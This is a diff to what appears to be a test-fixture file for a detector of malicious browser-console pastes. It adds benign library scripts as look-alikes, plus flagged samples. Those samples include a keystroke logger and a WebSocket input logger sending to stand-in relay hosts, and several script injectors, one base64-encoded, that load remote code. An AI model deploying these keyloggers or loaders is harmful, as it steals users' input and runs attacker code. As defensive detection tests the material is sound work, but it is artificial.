@@ -18,6 +18,10 @@ clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
   STARTUPINFO's wShowWindow, a turtle's getscreen(), a NUL escape after an address in a test.
   Look-alikes: a padded one-line lure, a padded first line of a long paste, WMI's ShowWindow = 0,
   eval(atob(...)) with no Python in sight, GetScreen's installer, a backslash address.
+- `library`: scripts of a library's size, an editor's or a site search's, whose key listeners
+  and requests are separate parts, and whose script loader sets src to its caller's argument.
+  Look-alikes: a handler that sends the key (or a socket opened just before), a script element
+  given a decoded, fetched or just-written address.
 """
 
 from __future__ import annotations
@@ -301,6 +305,79 @@ book.add(
     flagged,
     "windows",
     "run_dialog",
+    None,
+)
+
+
+# --- library: key listeners and requests as a library's separate parts ---
+FILLER = "".join(
+    f"  function step{i}(state) {{ state.count += {i}; return state; }}\n" for i in range(12)
+)
+SEARCH = (
+    "(function () {\n"
+    "  var searchbar = document.getElementById('search');\n"
+    "  searchbar.addEventListener('keyup', function (e) {\n"
+    "    if (e.key === 'Escape') { searchbar.value = ''; }\n"
+    "    showResults(searchbar.value);\n"
+    "  }, false);\n" + FILLER + "  function loadIndex(done) {\n"
+    "    fetch('https://docs.example.org/search-index.json').then(r => r.json()).then(done);\n"
+    "  }\n"
+    "  loadIndex(function (idx) { window.searchIndex = idx; });\n"
+    "})();\n"
+)
+book.add("library", SEARCH, ok, "any", "unknown", None)
+book.add("library", SEARCH, ok, "any", "other", "https://docs.example.org/std/")
+EDITOR = (
+    "define('ace/lib/net',['require','exports','module'],function(e,t,n){"
+    "t.get=function(e,t){var n=new XMLHttpRequest;n.open('GET',e,!0),n.onreadystatechange=function(){"
+    "n.readyState===4&&t(n.responseText)},n.send(null)},t.loadScript=function(e,t){var n=document.head,"
+    "i=document.createElement('script');i.src=e,n.appendChild(i),i.onload=function(){t()}}});"
+    "define('ace/keyboard',function(e,t){t.bind=function(el,h){el.addEventListener('keydown',function(k){"
+    "h(k.keyCode)})}});" + "var ace_docs='https://ace.example.org/';" * 3
+)
+book.add("library", EDITOR, ok, "any", "unknown", None)
+book.add("library", EDITOR, ok, "any", "other", "https://ace.example.org/build/src/ace.js")
+
+# what a library's reading must not reach
+book.add(
+    "library",
+    "document.addEventListener('keydown', e => {\n  buf += e.key;\n  if (buf.length > 8) {\n"
+    "    fetch('https://k.typing-relay.test/c', {method: 'POST', body: buf});\n    buf = '';\n  }\n});",
+    flagged,
+    "any",
+    "browser_console",
+    "https://claim.reward-portal.test/",
+)
+book.add(
+    "library",
+    "const ws=new WebSocket('wss://k.typing-relay.test/s');document.addEventListener('input',e=>ws.send(e.target.value))",
+    flagged,
+    "any",
+    "browser_console",
+    None,
+)
+book.add(
+    "library",
+    "var u=atob('aHR0cHM6Ly9jLnVwZGF0ZS1yZWxheS50ZXN0L2EuanM=');var s=document.createElement('script');s.src=u;document.head.appendChild(s)",
+    flagged,
+    "any",
+    "browser_console",
+    None,
+)
+book.add(
+    "library",
+    "var u='https://c.update-relay.test/a.js';var s=document.createElement('script');s.src=u;document.head.appendChild(s)",
+    flagged,
+    "any",
+    "browser_console",
+    None,
+)
+book.add(
+    "library",
+    "var s=document.createElement('script');s.src=decodeURIComponent('https%3A%2F%2Fc.update-relay.test%2Fa.js');document.body.appendChild(s)",
+    flagged,
+    "any",
+    "browser_console",
     None,
 )
 
